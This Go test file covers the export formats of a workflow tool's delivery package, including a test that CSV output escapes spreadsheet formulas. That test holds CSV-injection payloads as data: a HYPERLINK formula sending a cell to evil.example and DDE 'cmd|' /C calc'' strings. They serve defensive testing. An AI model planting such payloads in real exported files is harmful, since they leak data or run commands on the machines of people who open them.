package delivery_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/reinhq/rein/flow"
	"github.com/reinhq/rein/server/workflowtool/delivery"
	"github.com/reinhq/rein/tool"
	"github.com/reinhq/rein/trace"
)

// testTask is a succeeded two-step task whose deliverable is a list of
// objects.
func testTask(t *testing.T) *delivery.Task {
	t.Helper()
	src := []byte("name: orders\nsteps:\n  - { id: fetch, tool: fetch }\n  - { id: assign, tool: assign, requires: [fetch] }\n")
	f, err := flow.Parse(src, "", &flow.Options{Tools: func(name string) (tool.Spec, bool) { return tool.Spec{Name: name}, true }})
	if err != nil {
		t.Fatal(err)
	}
	arts := []delivery.Artifact{
		{StepID: "fetch", Producer: "tool:fetch", Attempt: 1, SHA256: "aa", Status: trace.StepSucceeded, Output: json.RawMessage(`{"n":2}`)},
		{StepID: "assign", Producer: "adapter:a|b", Attempt: 2, SHA256: "bb", Status: trace.StepSucceeded,
			Output: json.RawMessage(`{"assignments":[{"item":"frame","material":"steel"},{"item":"bracket","material":"steel"}],"route":"weld"}`)},
	}
	return &delivery.Task{
		ID: "r1", Workflow: "orders", Status: trace.RunSucceeded, Flow: f,
		Statuses:  map[string]string{"fetch": "succeeded", "assign": "succeeded"},
		Artifacts: arts, Deliverables: arts[1:],
	}
}

// This test binary does not import delivery/xlsx: a delivery without the
// spreadsheet, the files by name.
func TestFormatsBuiltIn(t *testing.T) {
	t.Parallel()
	var names []string
	for _, f := range delivery.Formats() {
		names = append(names, f.Name)
	}
	if want := []string{"deliverables.csv", "deliverables.json", "deliverables.md", "run.mmd"}; !slices.Equal(names, want) {
		t.Errorf("Formats() = %v, want %v", names, want)
	}
}

// Every built-in format renders the same bytes twice, and says what it
// should.
func TestRenderBuiltIn(t *testing.T) {
	t.Parallel()
	want := map[string][]string{
		"deliverables.csv":  {"step_id,pointer,value\n", "assign,/assignments/1/item,bracket\n", "assign,/route,weld\n"},
		"deliverables.json": {`"task_id": "r1"`, `"status": "succeeded"`, `"step_id": "assign"`},
		"deliverables.md":   {"# orders — task r1", "| assign | adapter:a\\|b | 2 | `bb` |", "### assign"},
		"run.mmd":           {"class s1_assign run_succeeded"},
	}
	for _, f := range delivery.Formats() {
		var a, b bytes.Buffer
		if err := f.Render(&a, testTask(t)); err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		if err := f.Render(&b, testTask(t)); err != nil || !bytes.Equal(a.Bytes(), b.Bytes()) {
			t.Errorf("%s: rendered twice, the bytes differ (%v)", f.Name, err)
		}
		for _, w := range want[f.Name] {
			if !strings.Contains(a.String(), w) {
				t.Errorf("%s does not hold %q:\n%s", f.Name, w, a.String())
			}
		}
	}
}

func TestRegisterRefuses(t *testing.T) {
	t.Parallel()
	for _, f := range []delivery.Format{
		{Name: "deliverables.csv", Render: delivery.Formats()[0].Render},
		{Name: "", Render: delivery.Formats()[0].Render},
		{Name: "sub/x.txt", Render: delivery.Formats()[0].Render},
		{Name: "x.txt"},
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("Register(%q) did not panic", f.Name)
				}
			}()
			delivery.Register(f)
		}()
	}
}

func TestLeaves(t *testing.T) {
	t.Parallel()
	var v any
	_ = json.Unmarshal([]byte(`{"b":[1,{"c/d":"x~"}],"a":null,"e":true}`), &v)
	got := delivery.Leaves(v)
	want := [][2]string{{"/a", "null"}, {"/b/0", "1"}, {"/b/1/c~1d", "x~"}, {"/e", "true"}}
	if !slices.Equal(got, want) {
		t.Errorf("Leaves = %v, want %v", got, want)
	}
}

// TestCSVEscapesFormulas: a value a spreadsheet would run as a formula
// is written with a leading single quote (OWASP's CSV injection rule); a
// number, negative or not, and plain text are written as they are.
func TestCSVEscapesFormulas(t *testing.T) {
	t.Parallel()
	task := testTask(t)
	out := map[string]any{
		"a": `=HYPERLINK("http://evil.example/?x="&A1,"open")`,
		"b": `+cmd|' /C calc'!A0`,
		"c": "@SUM(1+1)*cmd|' /C calc'!A0",
		"d": "-2+3+cmd|' /C calc'!A0",
		"e": "\t=1+1",
		"f": "\r=1+1",
		"g": -5,
		"h": -1.5e3,
		"i": "plain text, with = inside",
		"j": "'already quoted",
	}
	raw, _ := json.Marshal(out)
	task.Deliverables = []delivery.Artifact{{StepID: "assign", Status: trace.StepSucceeded, Output: raw}}
	var b bytes.Buffer
	if err := delivery.Formats()[0].Render(&b, task); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rows[1:] {
		got[strings.TrimPrefix(r[1], "/")] = r[2]
	}
	want := map[string]string{
		"a": `'=HYPERLINK("http://evil.example/?x="&A1,"open")`,
		"b": `'+cmd|' /C calc'!A0`,
		"c": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"d": "'-2+3+cmd|' /C calc'!A0",
		"e": "'\t=1+1",
		"f": "'\r=1+1",
		"g": "-5",
		"h": "-1500",
		"i": "plain text, with = inside",
		"j": "'already quoted",
	}
	for k, w := range want {
		if got[k] != w {
			t.Errorf("cell of /%s = %q, want %q", k, got[k], w)
		}
	}
}
